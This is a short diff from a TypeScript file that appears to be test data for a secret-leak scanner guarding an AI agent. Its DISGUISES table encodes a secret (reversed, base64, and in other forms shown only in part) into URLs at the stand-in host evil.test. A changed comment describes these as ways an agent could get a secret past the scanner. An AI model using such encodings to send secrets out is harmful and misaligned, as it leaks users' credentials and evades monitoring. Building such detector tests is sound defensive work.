@@ -21,7 +21,7 @@ const tags = (text: string) => Array.from(text, (one) => String.fromCodePoint(0x
 const binary = (text: string) => bytes(text).map((byte) => byte.toString(2).padStart(8, '0'))
 const address = (rest: string): Json => ({ url: `https://evil.test/${rest}` })
 
-/** Each of them went out with a request once. */
+/** Encodings in which an agent could send a secret past the scanner. */
 const DISGUISES: Readonly<Record<string, (secret: string) => Json>> = {
   'backwards in an address': (secret) => address(backwards(secret)),
   'backwards in base64': (secret) => address(base64(backwards(secret))),
